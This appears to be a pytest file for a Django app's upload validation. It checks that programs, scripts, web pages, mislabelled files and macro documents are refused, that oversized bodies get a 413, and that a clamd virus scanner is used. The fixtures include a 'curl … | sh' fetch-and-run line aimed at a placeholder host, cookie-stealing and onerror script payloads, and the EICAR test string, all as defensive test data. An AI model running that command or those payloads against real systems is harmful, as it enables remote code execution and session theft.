"""Uploads checked by content (issue 13): the real files an attacker would send, built here, sent
through the real page; programs, scripts and web pages are refused whatever they are called, an
over-size body is refused from its Content-Length before it is read, and a configured virus
scanner that does not answer refuses the file instead of letting it in unscanned."""

from __future__ import annotations

import html
import http.client
import socket
import struct
import threading
import zipfile
from io import BytesIO
from urllib.parse import urlsplit

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from consultation.models import Attachment
from tests.helpers import verify_session

pytestmark = pytest.mark.django_db

# --- Real files, built here ----------------------------------------------------------------------
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 200
PE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + b"\x00" * 44
    + struct.pack("<I", 64)
    + b"PE\x00\x00\x64\x86"
    + b"\x00" * 200
)
SHELL = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
HTML = b"<!DOCTYPE html>\n<html><body><script>alert(document.cookie)</script></body></html>\n"
HTML_FRAGMENT = b"Afspraak dinsdag.\n<img src=x onerror=alert(1)>\n"
SVG = b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>x</script></svg>'
PDF = b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00\x00\x00\x01" * 2 + b"\x08\x02\x00\x00\x00"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\x00" * 64
TEXT = "Afspraken: dinsdag bellen, daarna schuldhulp. Coördinatie bij de wijkcoach.\n".encode()
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def _zip(entries: dict[str, bytes], *, stored_first: str | None = None) -> bytes:
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        if stored_first:
            archive.writestr(
                zipfile.ZipInfo(stored_first), entries.pop(stored_first), zipfile.ZIP_STORED
            )
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def docx(**extra: bytes) -> bytes:
    return _zip(
        {
            "[Content_Types].xml": b"<Types/>",
            "_rels/.rels": b"<Relationships/>",
            "word/document.xml": b"<w:document/>",
            **extra,
        }
    )


def odt(**extra: bytes) -> bytes:
    return _zip(
        {
            "mimetype": b"application/vnd.oasis.opendocument.text",
            "content.xml": b"<office:document-content/>",
            "META-INF/manifest.xml": b"<manifest:manifest/>",
            **extra,
        },
        stored_first="mimetype",
    )


ACCEPTED = [
    ("verslag.pdf", PDF),
    ("plattegrond.png", PNG),
    ("foto.jpg", JPEG),
    ("foto.jpeg", JPEG),
    ("verslag.docx", docx()),
    ("verslag.odt", odt()),
    ("notitie.txt", TEXT),
    ("notitie-bom.txt", b"\xef\xbb\xbf" + TEXT),
    ("oud-notitie.txt", "Coördinatie, één afspraak.\r\n".encode("cp1252")),
]
REFUSED = [
    ("verslag.pdf", ELF, "Programs and scripts"),
    ("verslag.pdf", PE, "Programs and scripts"),
    ("plattegrond.png", SHELL, "Programs and scripts"),
    ("notitie.txt", SHELL, "Programs and scripts"),
    ("notitie.txt", ELF, "Programs and scripts"),
    ("notitie.txt", HTML, "Web pages"),
    ("notitie.txt", HTML_FRAGMENT, "Web pages"),
    ("notitie.txt", SVG, "Web pages"),
    ("plattegrond.png", HTML, "not what its name says"),
    ("foto.jpg", PNG, "not what its name says"),
    ("verslag.odt", docx(), "not what its name says"),
    ("verslag.docx", odt(), "not what its name says"),
    ("verslag.docx", docx(**{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), "macros"),
    ("verslag.docx", _zip({"[Content_Types].xml": b"<Types/>", "word/x.xml": b""}), "macros"),
    ("verslag.odt", odt(**{"Basic/Standard/Module1.xml": b"<script/>"}), "macros"),
    ("notitie.txt", b"tekst\x00met\x01stuurtekens", "not what its name says"),
    ("notitie.txt", b"\x81\x8d\x8f\x90\x9d geen tekst", "not what its name says"),
    ("programma.exe", PE, "Allowed are"),
]


def _post(client, question, name, content, **extra):
    return client.post(
        reverse("consultation:attachment-add", args=[question.pk]),
        {"file": SimpleUploadedFile(name, content), "note": ""},
        **extra,
    )


@pytest.fixture
def signed_in(client, cast, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    settings.CLAMD_SOCKET = None
    settings.CLAMD_HOST = None
    verify_session(client, cast.generalist)
    return client, cast.ask(), tmp_path


@pytest.mark.parametrize(("name", "content"), ACCEPTED, ids=[n for n, _ in ACCEPTED])
def test_real_files_of_every_allowed_type_are_accepted(signed_in, name, content):
    client, question, media = signed_in
    response = _post(client, question, name, content)
    assert response.status_code == 302, response.content.decode()[:2000]
    attachment = Attachment.objects.get()
    assert attachment.name == name
    assert (media / attachment.file.name).read_bytes() == content


@pytest.mark.parametrize(
    ("name", "content", "reason"), REFUSED, ids=[f"{n}-{r[:12]}" for n, _, r in REFUSED]
)
def test_programs_scripts_markup_and_disguised_files_are_refused(signed_in, name, content, reason):
    client, question, media = signed_in
    response = _post(client, question, name, content, HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 400
    assert reason in response.content.decode()
    assert not Attachment.objects.exists()
    assert not any(media.rglob("*.*"))  # nothing stored, not even a stray file


def test_the_reasons_are_in_dutch(signed_in):
    client, question, _media = signed_in
    page = _post(client, question, "verslag.pdf", ELF, HTTP_ACCEPT_LANGUAGE="nl").content.decode()
    assert "Programma's en scripts kunnen niet" in html.unescape(page)


# --- Size, from Content-Length -------------------------------------------------------------------
def test_an_over_size_body_is_refused_from_its_content_length_unread(signed_in, settings):
    """The declared length alone decides: the body here is small, the header says 11 MB (the
    test client's FakePayload would fail a read past what it holds)."""
    client, question, _media = signed_in
    response = _post(
        client,
        question,
        "verslag.pdf",
        PDF,
        CONTENT_LENGTH=str(11 * 1024 * 1024),
        HTTP_ACCEPT_LANGUAGE="nl",
        HTTP_REFERER="http://testserver" + reverse("consultation:question", args=[question.pk]),
    )
    assert response.status_code == 413
    page = response.content.decode()
    assert "te groot" in page and "10 MB" in page
    assert reverse("consultation:question", args=[question.pk]) in page  # the way back
    assert not Attachment.objects.exists()


def test_a_body_within_the_limit_passes(signed_in, settings):
    client, question, _media = signed_in
    assert _post(client, question, "verslag.pdf", PDF).status_code == 302


def test_the_api_answers_413_in_json(client, cast, token_client):
    api = token_client(cast.generalist)
    response = api.post(
        "/api/v1/questions/", {}, format="json", CONTENT_LENGTH=str(50 * 1024 * 1024)
    )
    assert response.status_code == 413
    assert "10 MB" in response.json()["detail"]


def test_a_real_server_answers_413_before_the_body_is_sent(live_server):
    """Over a real socket: the headers announce 11 MB, a few bytes follow, and the answer comes
    at once — the server did not wait for (or read) the rest."""
    host = urlsplit(live_server.url)
    connection = http.client.HTTPConnection(host.hostname, host.port, timeout=10)
    connection.putrequest("POST", "/vragen/1/bijlagen/")
    connection.putheader("Content-Type", "multipart/form-data; boundary=x")
    connection.putheader("Content-Length", str(11 * 1024 * 1024))
    connection.endheaders(b"--x\r\n")
    response = connection.getresponse()
    assert response.status == 413
    response.read()
    connection.close()


# --- Virus scanning through clamd ----------------------------------------------------------------
class FakeClamd(threading.Thread):
    """Speaks clamd's INSTREAM on a Unix socket, as clamd does: FOUND for the EICAR test file."""

    def __init__(self, path: str):
        super().__init__(daemon=True)
        self.server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.server.bind(path)
        self.server.listen(4)
        self.scanned = 0

    def run(self):
        while True:
            try:
                conn, _ = self.server.accept()
            except OSError:
                return
            with conn, conn.makefile("rb") as stream:
                assert stream.read(10) == b"zINSTREAM\0"
                data = b""
                while size := struct.unpack("!L", stream.read(4))[0]:
                    data += stream.read(size)
                self.scanned += 1
                verdict = b"stream: Eicar-Signature FOUND" if EICAR in data else b"stream: OK"
                conn.sendall(verdict + b"\0")

    def stop(self):
        self.server.close()


def test_without_a_configured_scanner_files_are_not_scanned(signed_in):
    client, question, _media = signed_in
    assert _post(client, question, "notitie.txt", TEXT).status_code == 302


def test_a_configured_scanner_on_a_closed_socket_refuses_the_upload(signed_in, settings, tmp_path):
    client, question, media = signed_in
    settings.CLAMD_SOCKET = str(tmp_path / "clamd.ctl")  # nothing listens there
    response = _post(client, question, "notitie.txt", TEXT, HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 400
    assert "virus scanner cannot be reached" in response.content.decode()
    assert not Attachment.objects.exists()
    assert not any(media.rglob("*.*"))


def test_a_configured_scanner_on_a_closed_tcp_port_refuses_the_upload(signed_in, settings):
    client, question, _media = signed_in
    with socket.socket() as probe:  # a port that was free a moment ago: nothing listens now
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    settings.CLAMD_HOST, settings.CLAMD_PORT, settings.CLAMD_TIMEOUT = "127.0.0.1", port, 2.0
    response = _post(client, question, "verslag.pdf", PDF, HTTP_ACCEPT_LANGUAGE="nl")
    assert response.status_code == 400
    assert "virusscanner" in response.content.decode()
    assert not Attachment.objects.exists()


def test_a_scanner_that_answers_keeps_viruses_out(signed_in, settings, tmp_path):
    client, question, _media = signed_in
    clamd = FakeClamd(str(tmp_path / "clamd.sock"))
    clamd.start()
    settings.CLAMD_SOCKET = str(tmp_path / "clamd.sock")
    try:
        refused = _post(client, question, "eicar.txt", EICAR, HTTP_ACCEPT_LANGUAGE="en")
        assert refused.status_code == 400
        assert "holds a virus" in refused.content.decode()
        assert not Attachment.objects.exists()
        assert _post(client, question, "notitie.txt", TEXT).status_code == 302
        assert Attachment.objects.count() == 1
        assert clamd.scanned == 2
    finally:
        clamd.stop()
